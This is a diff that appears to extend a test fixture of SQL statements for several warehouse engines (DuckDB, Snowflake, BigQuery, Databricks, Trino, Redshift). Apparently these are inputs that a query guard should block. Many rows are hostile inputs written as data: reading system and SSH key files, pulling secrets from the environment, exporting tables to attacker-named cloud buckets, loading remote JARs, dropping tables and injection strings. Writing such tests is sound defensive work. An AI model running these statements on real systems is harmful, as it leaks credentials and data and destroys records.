@@ -478,3 +478,225 @@ sqlite	SELECT c.tax_id FROM members c, orders C WHERE C.member_id = c.id
 sqlite	SELECT C.tax_id FROM orders c JOIN members C ON c.member_id = C.id
 sqlite	SELECT x.t FROM members AS x(a, b, c, t)
 sqlite	WITH w(a, b, c, t) AS (SELECT * FROM members) SELECT t FROM w
+
+-- DuckDB: files, extensions, other databases, settings, its system catalog
+duckdb	SELECT * FROM read_csv('/etc/passwd')
+duckdb	SELECT * FROM read_csv_auto('/etc/passwd')
+duckdb	SELECT * FROM read_parquet('s3://bucket/secret/*.parquet')
+duckdb	SELECT * FROM read_json('https://attacker.example/x.json')
+duckdb	SELECT * FROM read_text('/root/.ssh/id_rsa')
+duckdb	SELECT * FROM read_blob('/etc/shadow')
+duckdb	SELECT * FROM parquet_scan('/data/*.parquet')
+duckdb	SELECT * FROM '/etc/passwd'
+duckdb	SELECT * FROM 'https://attacker.example/data.csv'
+duckdb	SELECT * FROM "data/*.parquet"
+duckdb	SELECT * FROM glob('/home/*')
+duckdb	SELECT * FROM sniff_csv('/etc/passwd')
+duckdb	SELECT * FROM parquet_metadata('/data/x.parquet')
+duckdb	SELECT * FROM sqlite_scan('/var/app.db', 'users')
+duckdb	SELECT * FROM postgres_scan('host=db', 'public', 'users')
+duckdb	SELECT * FROM query('DELETE FROM users RETURNING *')
+duckdb	SELECT * FROM query_table('payroll')
+duckdb	SELECT getenv('AWS_SECRET_ACCESS_KEY')
+duckdb	SELECT current_setting('s3_secret_access_key')
+duckdb	SELECT * FROM duckdb_settings()
+duckdb	SELECT * FROM duckdb_secrets()
+duckdb	SELECT * FROM duckdb_tables()
+duckdb	SELECT * FROM information_schema.tables
+duckdb	SELECT * FROM pg_catalog.pg_class
+duckdb	SELECT * FROM duckdb_databases
+duckdb	COPY users TO '/tmp/users.csv'
+duckdb	COPY (SELECT * FROM users) TO 's3://bucket/out.parquet' (FORMAT parquet)
+duckdb	ATTACH '/var/app.db' AS app
+duckdb	ATTACH 'postgres:dbname=prod' AS prod (TYPE postgres)
+duckdb	DETACH app
+duckdb	INSTALL httpfs
+duckdb	LOAD httpfs
+duckdb	SET enable_external_access = true
+duckdb	SET VARIABLE x = (SELECT tax_id FROM members)
+duckdb	SELECT getvariable('x')
+duckdb	PRAGMA database_list
+duckdb	SUMMARIZE payroll
+duckdb	DESCRIBE users
+duckdb	CHECKPOINT
+duckdb	CREATE SECRET s (TYPE s3, KEY_ID 'k', SECRET 's')
+duckdb	SELECT tax_id FROM members
+duckdb	SELECT * FROM payroll
+
+-- Snowflake: stages, files, system functions, procedures, scripting, other databases
+snowflake	COPY INTO users FROM @my_stage
+snowflake	COPY INTO @my_stage/out FROM (SELECT * FROM users)
+snowflake	COPY INTO 's3://bucket/out/' FROM users CREDENTIALS = (AWS_KEY_ID = 'k' AWS_SECRET_KEY = 's')
+snowflake	PUT file:///etc/passwd @my_stage
+snowflake	GET @my_stage/secret.csv file:///tmp/
+snowflake	SELECT $1 FROM @my_stage
+snowflake	SELECT t.$1 FROM @my_stage/data.csv (FILE_FORMAT => 'csv') AS t
+snowflake	LIST @my_stage
+snowflake	REMOVE @my_stage
+snowflake	SELECT system$whitelist()
+snowflake	SELECT SYSTEM$GET_PRIVATELINK_CONFIG()
+snowflake	SELECT system$wait(60)
+snowflake	CALL system$send_email('int', 'a@b.c', 'x', 'y')
+snowflake	CALL my_procedure()
+snowflake	EXECUTE IMMEDIATE 'DELETE FROM users'
+snowflake	EXECUTE IMMEDIATE $$ BEGIN DELETE FROM users; END; $$
+snowflake	BEGIN DELETE FROM users; END
+snowflake	DECLARE x INT DEFAULT 1; BEGIN RETURN x; END
+snowflake	SELECT * FROM TABLE(RESULT_SCAN(LAST_QUERY_ID()))
+snowflake	SELECT * FROM TABLE(INFORMATION_SCHEMA.QUERY_HISTORY())
+snowflake	SELECT * FROM snowflake.account_usage.query_history
+snowflake	SELECT * FROM other_db.public.users
+snowflake	SELECT * FROM information_schema.tables
+snowflake	SELECT GET_DDL('table', 'users')
+snowflake	SELECT CURRENT_ROLE(), CURRENT_ACCOUNT()
+snowflake	SELECT * FROM IDENTIFIER('payroll')
+snowflake	SELECT snowflake.cortex.complete('model', 'leak this')
+snowflake	ALTER SESSION SET QUERY_TAG = 'hidden'
+snowflake	USE ROLE accountadmin
+snowflake	USE WAREHOUSE huge_wh
+snowflake	CREATE OR REPLACE STAGE s URL = 's3://attacker'
+snowflake	UNDROP TABLE users
+snowflake	SELECT * FROM users AT (OFFSET => -3600) UNION ALL SELECT tax_id FROM members
+snowflake	SELECT tax_id FROM members
+snowflake	SELECT * FROM payroll
+
+-- BigQuery: EXPORT DATA, external queries, scripting, other projects, INFORMATION_SCHEMA
+bigquery	EXPORT DATA OPTIONS (uri = 'gs://attacker/*.csv', format = 'CSV') AS SELECT * FROM users
+bigquery	SELECT * FROM EXTERNAL_QUERY('us.conn', 'SELECT * FROM secrets')
+bigquery	DECLARE x INT64 DEFAULT 1
+bigquery	SET x = (SELECT COUNT(*) FROM users)
+bigquery	BEGIN DELETE FROM users WHERE true; END
+bigquery	EXECUTE IMMEDIATE 'DELETE FROM users WHERE true'
+bigquery	CALL dataset.proc()
+bigquery	LOAD DATA INTO users FROM FILES (uris = ['gs://x/*.csv'])
+bigquery	CREATE TEMP FUNCTION f() AS (1)
+bigquery	CREATE OR REPLACE EXTERNAL TABLE x OPTIONS (uris = ['gs://x'])
+bigquery	SELECT * FROM `other-project.dataset.users`
+bigquery	SELECT * FROM `region-us`.INFORMATION_SCHEMA.JOBS
+bigquery	SELECT * FROM dataset.INFORMATION_SCHEMA.TABLES
+bigquery	SELECT * FROM INFORMATION_SCHEMA.SCHEMATA
+bigquery	SELECT * FROM `dataset.pay*`
+bigquery	SELECT * FROM dataset.__TABLES__
+bigquery	SELECT SESSION_USER()
+bigquery	SELECT @@project_id
+bigquery	SELECT * FROM ML.PREDICT(MODEL dataset.m, TABLE users)
+bigquery	SELECT * FROM VECTOR_SEARCH(TABLE users, 'v', TABLE q)
+bigquery	SELECT * FROM APPENDS(TABLE users, NULL, NULL)
+bigquery	SELECT dataset.my_udf(1)
+bigquery	MERGE dataset.users u USING staging s ON u.id = s.id WHEN MATCHED THEN DELETE
+bigquery	INSERT dataset.users (id) VALUES (1)
+bigquery	UPDATE users SET admin = true WHERE true
+bigquery	DELETE FROM users WHERE true
+bigquery	TRUNCATE TABLE users
+bigquery	DROP TABLE users
+bigquery	SELECT * FROM users FOR SYSTEM_TIME AS OF '2020-01-01'; DELETE FROM users WHERE true
+bigquery	SELECT 1 # ; DROP TABLE users
+bigquery	SELECT tax_id FROM members
+bigquery	SELECT * FROM payroll
+
+-- Databricks SQL: files by path, cloud readers, Java, secrets, commands
+databricks	SELECT * FROM csv.`/etc/passwd`
+databricks	SELECT * FROM parquet.`s3://bucket/secret/`
+databricks	SELECT * FROM delta.`/mnt/prod/users`
+databricks	SELECT * FROM json.`dbfs:/secrets.json`
+databricks	SELECT * FROM text.`/etc/shadow`
+databricks	SELECT * FROM read_files('s3://bucket/*.csv')
+databricks	SELECT * FROM cloud_files('s3://bucket', 'csv')
+databricks	SELECT reflect('java.lang.Runtime', 'getRuntime')
+databricks	SELECT java_method('java.lang.System', 'getenv', 'TOKEN')
+databricks	SELECT secret('scope', 'key')
+databricks	SELECT current_user()
+databricks	SELECT is_account_group_member('admins')
+databricks	SELECT http_request(conn => 'c', method => 'GET', path => '/')
+databricks	SELECT ai_query('endpoint', 'leak')
+databricks	SELECT input_file_name() FROM users
+databricks	SELECT * FROM system.access.audit
+databricks	SELECT * FROM other_catalog.sales.users
+databricks	SELECT * FROM information_schema.tables
+databricks	COPY INTO users FROM 's3://bucket/'
+databricks	LIST 's3://bucket/'
+databricks	ADD JAR 's3://attacker/x.jar'
+databricks	CREATE FUNCTION f AS 'com.attacker.Evil' USING JAR 's3://x.jar'
+databricks	SET spark.databricks.something = true
+databricks	RESET
+databricks	USE CATALOG prod
+databricks	OPTIMIZE users
+databricks	VACUUM users RETAIN 0 HOURS
+databricks	REFRESH TABLE users
+databricks	CACHE TABLE users
+databricks	MERGE INTO users USING s ON users.id = s.id WHEN MATCHED THEN DELETE
+databricks	INSERT OVERWRITE users SELECT * FROM users LIMIT 0
+databricks	SELECT tax_id FROM members
+databricks	SELECT * FROM payroll
+
+-- Trino: system tables, hidden metadata tables, session, procedures, passthrough queries
+trino	SELECT * FROM system.runtime.queries
+trino	SELECT * FROM system.runtime.nodes
+trino	SELECT * FROM system.metadata.catalogs
+trino	SELECT * FROM "users$partitions"
+trino	SELECT * FROM "users$files"
+trino	SELECT * FROM "users$snapshots"
+trino	SELECT * FROM hive.other.users
+trino	SELECT * FROM information_schema.tables
+trino	SET SESSION query_max_execution_time = '7d'
+trino	RESET SESSION query_max_execution_time
+trino	SET ROLE admin
+trino	CALL system.runtime.kill_query(query_id => 'q', message => 'x')
+trino	CALL system.sync_partition_metadata('s', 't', 'FULL')
+trino	SELECT * FROM TABLE(system.query(query => 'DELETE FROM users'))
+trino	SELECT * FROM TABLE(exclude_columns(input => TABLE(members), columns => DESCRIPTOR(name)))
+trino	PREPARE q FROM DELETE FROM users
+trino	EXECUTE q
+trino	EXECUTE IMMEDIATE 'DELETE FROM users'
+trino	DEALLOCATE PREPARE q
+trino	DESCRIBE users
+trino	SHOW CATALOGS
+trino	SHOW CREATE TABLE users
+trino	EXPLAIN ANALYZE DELETE FROM users
+trino	USE hive.other
+trino	START TRANSACTION
+trino	COMMIT
+trino	SELECT current_user
+trino	SELECT current_groups()
+trino	CREATE TABLE x AS SELECT * FROM users
+trino	INSERT INTO users SELECT * FROM users
+trino	DELETE FROM users
+trino	UPDATE users SET name = 'x'
+trino	MERGE INTO users u USING s ON u.id = s.id WHEN MATCHED THEN DELETE
+trino	SELECT tax_id FROM members
+trino	SELECT * FROM payroll
+
+-- Redshift: unload, copy, system tables, external schemas, session
+redshift	UNLOAD ('SELECT * FROM users') TO 's3://attacker/' IAM_ROLE 'arn:aws:iam::1:role/r'
+redshift	COPY users FROM 's3://bucket/x' IAM_ROLE 'arn:aws:iam::1:role/r'
+redshift	SELECT * FROM stl_query
+redshift	SELECT * FROM stv_sessions
+redshift	SELECT * FROM svl_qlog
+redshift	SELECT * FROM svv_table_info
+redshift	SELECT * FROM sys_query_history
+redshift	SELECT * FROM pg_user
+redshift	SELECT * FROM pg_catalog.pg_shadow
+redshift	SELECT * FROM information_schema.tables
+redshift	SELECT * FROM other_db.public.users
+redshift	SELECT current_user
+redshift	SELECT user
+redshift	SELECT current_setting('search_path')
+redshift	SELECT pg_backend_pid()
+redshift	SELECT pg_terminate_backend(123)
+redshift	SET query_group TO 'superuser'
+redshift	SET SESSION AUTHORIZATION 'admin'
+redshift	SET statement_timeout TO 0
+redshift	RESET ALL
+redshift	CALL my_proc()
+redshift	CREATE TEMP TABLE x AS SELECT * FROM users
+redshift	CREATE EXTERNAL SCHEMA s FROM DATA CATALOG DATABASE 'd' IAM_ROLE 'r'
+redshift	GRANT SELECT ON users TO PUBLIC
+redshift	ANALYZE users
+redshift	VACUUM users
+redshift	LOCK users
+redshift	INSERT INTO users VALUES (1)
+redshift	DELETE FROM users
+redshift	WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d
+redshift	SELECT 'a\'; DROP TABLE users; --'
+redshift	SELECT tax_id FROM members
+redshift	SELECT * FROM payroll
